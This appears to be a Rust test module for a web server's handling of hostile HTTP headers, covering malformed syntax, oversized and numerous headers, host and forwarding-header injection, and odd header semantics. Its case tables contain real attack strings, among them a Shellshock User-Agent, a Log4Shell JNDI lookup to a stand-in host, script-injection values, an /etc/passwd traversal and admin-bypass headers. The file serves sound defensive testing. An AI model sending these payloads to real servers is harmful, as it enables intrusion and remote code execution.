//! Headers that are too many, too large or malformed, and headers that other servers would act upon.

use crate::hostile::case::Case;

const FRAGMENT: &str = "/events/midnight-parade/availability";
/// Pages that would show a forged host.
const PAGES: [&str; 3] = ["/", "/nowhere", "/events/midnight-parade/"];

pub fn cases() -> Vec<Case> {
    let mut cases = of_form();
    cases.extend(of_size());
    cases.extend(of_parts());
    cases.extend(hosts());
    for (lines, expected) in SEMANTICS {
        cases.push(Case::headers(format!("header {lines:?}"), "/", lines.to_owned() + "\r\n", expected));
    }
    for coding in ["gzip", "br", "*", "identity;q=0", "gzip;q=nan", "gzip;q=1e9", ",,,", "gzip, gzip, br;q=0"]
    {
        let lines = format!("Accept-Encoding: {coding}\r\n");
        for page in ["/", "/events/midnight-parade/availability"] {
            cases.push(Case::headers(format!("{page} as {coding:?}"), page, &lines, "200|406"));
        }
    }
    cases
}

fn of_form() -> Vec<Case> {
    let lines: [(&str, &[u8], &str); 22] = [
        ("no colon", b"X-Bare\r\n", "400"),
        ("no name", b": x\r\n", "400"),
        ("a blank before the colon", b"X-A : x\r\n", "400"),
        ("a tab before the colon", b"X-A\t: x\r\n", "400"),
        ("a blank in the name", b"X A: x\r\n", "400"),
        ("a blank before the name", b" X-A: x\r\n", "400"),
        ("folded", b"X-A: x\r\n folded\r\n", "400"),
        ("folded with a tab", b"X-A: x\r\n\tfolded\r\n", "400"),
        ("a bare carriage return", b"X-A: x\rX-Injected: 1\r\n", "400"),
        ("a bare line feed", b"X-A: x\nX-B: 1\r\n", "200|400"),
        ("a NUL in the name", b"X-\0A: x\r\n", "400"),
        ("a NUL in the value", b"X-A: x\0y\r\n", "400"),
        ("a bell in the value", b"X-A: x\x07y\r\n", "400"),
        ("DEL in the value", b"X-A: x\x7fy\r\n", "400"),
        ("Latin-1 in the value", b"X-A: caf\xe9\r\n", "200"),
        ("UTF-8 in the value", "X-A: é\u{202e}\r\n".as_bytes(), "200"),
        ("UTF-8 in the name", "X-é: x\r\n".as_bytes(), "400"),
        ("brackets in the name", b"X(A): x\r\n", "400"),
        ("a quote in the name", b"X\"A: x\r\n", "400"),
        ("no value", b"X-A:\r\n", "200"),
        ("blanks around the value", b"X-A: \t x \t \r\n", "200"),
        ("an escape sequence", b"User-Agent: \x1b[31mred\r\n", "400"),
    ];
    lines.map(|(name, line, expected)| Case::headers(name, "/", line, expected)).into()
}

fn of_size() -> Vec<Case> {
    let many = |count: usize| (0..count).map(|number| format!("X-{number}: a\r\n")).collect::<String>();
    let long = |length: usize| format!("X-Long: {}\r\n", "a".repeat(length));
    let many_long =
        |count: usize, length: usize| many(count).replace(": a", &format!(": {}", "a".repeat(length)));
    let cookies = "Cookie: buyer=forged\r\n".repeat(80);
    vec![
        Case::headers("ninety headers", "/", many(90), "200"),
        Case::headers("a hundred headers", "/", many(100), "400|431"),
        Case::headers("ten thousand headers", "/", many(10_000), "400|431|cut"),
        Case::headers("a header of 15 KiB", "/", long(15 * 1024), "200"),
        Case::headers("a header of 17 KiB", "/", long(17 * 1024), "431"),
        Case::headers("a header of 47 KiB", "/", long(47 * 1024), "431"),
        Case::headers("a header of 64 KiB", "/", long(64 * 1024), "431"),
        Case::headers("a header of 200 KiB", "/", long(200 * 1024), "431|cut"),
        Case::headers("a header of 4 MiB", "/", long(4 * 1024 * 1024), "431|cut"),
        Case::headers("a name of 40 KiB", "/", format!("{}: x\r\n", "X".repeat(40 * 1024)), "400|431"),
        Case::headers("a name of 70 KiB", "/", format!("{}: x\r\n", "X".repeat(70 * 1024)), "431|cut"),
        Case::headers("eighty headers of 300 bytes", "/", many_long(80, 300), "431"),
        Case::headers(
            "an address and headers that fit alone",
            &format!("/?{}", "a".repeat(7_900)),
            long(9_000),
            "431",
        ),
        Case::headers("eighty cookie headers", "/", cookies, "200"),
        Case::headers(
            "a cookie of 100 KiB",
            "/",
            format!("Cookie: buyer={}\r\n", "a".repeat(100 * 1024)),
            "431|cut",
        ),
        Case::headers(
            "ten thousand cookies",
            "/",
            format!("Cookie: {}\r\n", "buyer=a; ".repeat(10_000)),
            "431|cut",
        ),
    ]
}

/// Heads of the maximum length, filled with values that the server parses part by part.
fn of_parts() -> Vec<Case> {
    vec![
        Case::headers(
            "as many cookies as fit",
            "/",
            format!("Cookie: {}\r\n", "buyer=a;".repeat(1_900)),
            "200",
        ),
        Case::headers(
            "as many empty cookies as fit",
            "/",
            format!("Cookie: {}\r\n", ";=".repeat(7_500)),
            "200",
        ),
        Case::headers(
            "tags without number",
            FRAGMENT,
            format!("If-None-Match: {}\r\n", "W/\"a\",".repeat(2_000)),
            "200",
        ),
        Case::headers(
            "encodings without number",
            FRAGMENT,
            format!("Accept-Encoding: {}\r\n", "br;q=0,".repeat(2_000)),
            "200",
        ),
        Case::headers(
            "encodings of a page",
            "/",
            format!("Accept-Encoding: {}\r\n", "x;q=0.1,".repeat(1_900)),
            "200",
        ),
        Case::headers(
            "hops without number",
            "/",
            format!("X-Forwarded-For: {}\r\n", "1.2.3.4,".repeat(1_900)),
            "200",
        ),
        Case::headers(
            "forwarded without end",
            "/",
            format!("Forwarded: for=\"{}\r\n", "\\\"".repeat(7_500)),
            "200",
        ),
        Case::headers(
            "more hops than fit",
            "/",
            format!("X-Forwarded-For: {}\r\n", "1.2.3.4,".repeat(5_000)),
            "431",
        ),
    ]
}

/// A request that names another host is never redirected there, and the host appears in no answer.
fn hosts() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, lines, expected) in [
        ("no host", "", "400"),
        ("two hosts", "Host: localhost\r\nHost: injected-host.example\r\n", "400"),
        ("the same host twice", "Host: localhost\r\nHost: localhost\r\n", "400"),
        ("an empty host", "Host: \r\n", "200|400"),
        ("a list of hosts", "Host: localhost, injected-host.example\r\n", "200|400"),
        ("a host with a path", "Host: injected-host.example/path\r\n", "400|421"),
        ("a host with a user", "Host: localhost@injected-host.example\r\n", "400|421"),
        ("a host with a quote", "Host: \"><script>alert(1)</script>\r\n", "200|400"),
        ("a host with a port of no use", "Host: localhost:99999999\r\n", "200|400"),
    ] {
        let bytes = format!("GET / HTTP/1.1\r\n{lines}\r\n");
        cases.push(Case::raw(name, bytes, expected));
    }
    for page in PAGES {
        let line = format!("GET {page} HTTP/1.1\r\nHost: injected-host.example\r\n\r\n");
        cases.push(Case::raw(format!("{page} of another host"), line, "200|404|308|421"));
        for header in [
            "X-Forwarded-Host: injected-host.example",
            "X-Forwarded-Server: injected-host.example",
            "X-Host: injected-host.example",
            "Forwarded: host=injected-host.example;proto=https",
            "X-Forwarded-Proto: javascript",
            "X-Forwarded-Prefix: //injected-host.example",
            "X-Original-URL: /admin",
            "X-Rewrite-URL: /admin",
            "Referer: https://injected-host.example/",
        ] {
            cases.push(Case::headers(
                format!("{page} with {header}"),
                page,
                format!("{header}\r\n"),
                "200|404|308|421",
            ));
        }
    }
    for header in
        ["X-Original-URL", "X-Rewrite-URL", "X-Forwarded-For", "X-Real-IP", "Client-IP", "True-Client-IP"]
    {
        let lines = format!("{header}: 127.0.0.1\r\n");
        cases.push(Case::headers(format!("/admin with {header}"), "/admin", lines, "303"));
    }
    cases
}

const SEMANTICS: [(&str, &str); 30] = [
    ("Range: bytes=0-0", "200"),
    ("Range: bytes=-1", "200"),
    ("Range: bytes=0-18446744073709551615", "200"),
    ("Range: bytes=0-1,2-3,4-5,6-7,8-9,0-,0-,0-,0-", "200"),
    ("Range: lines=1-2", "200"),
    ("Expect: 100-continue", "100 200"),
    ("Expect: 200-ok", "200|417"),
    (
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "200 / 200 cut",
    ),
    (
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZQ==",
        "200",
    ),
    ("Upgrade: TLS/1.0\r\nConnection: Upgrade", "200 / 200 cut"),
    ("Connection: close, keep-alive", "200"),
    ("Connection: Host, X-Forwarded-For", "200"),
    ("Connection: \u{1f3ab}", "200"),
    ("Keep-Alive: timeout=99999999, max=99999999", "200"),
    ("TE: trailers, deflate;q=0.5", "200"),
    ("Trailer: Host", "200"),
    ("Max-Forwards: 0", "200"),
    ("If-None-Match: *", "200"),
    ("If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT", "200"),
    ("If-Match: \"x\"", "200"),
    ("If-Range: \"x\"\r\nRange: bytes=0-0", "200"),
    ("Accept: <script>alert(1)</script>", "200"),
    ("Accept-Language: ../../../etc/passwd", "200"),
    ("Accept-Charset: utf-7", "200"),
    ("User-Agent: () { :;}; echo injected", "200"),
    ("User-Agent: ${jndi:ldap://injected-host.example/a}", "200"),
    ("HX-Request: true\r\nHX-Current-URL: javascript:alert(1)", "200"),
    ("HX-Boosted: true\r\nHX-Target: <script>alert(1)</script>", "200"),
    ("Authorization: Basic YWRtaW46YWRtaW4=", "200"),
    ("Content-Length: 0", "200"),
];
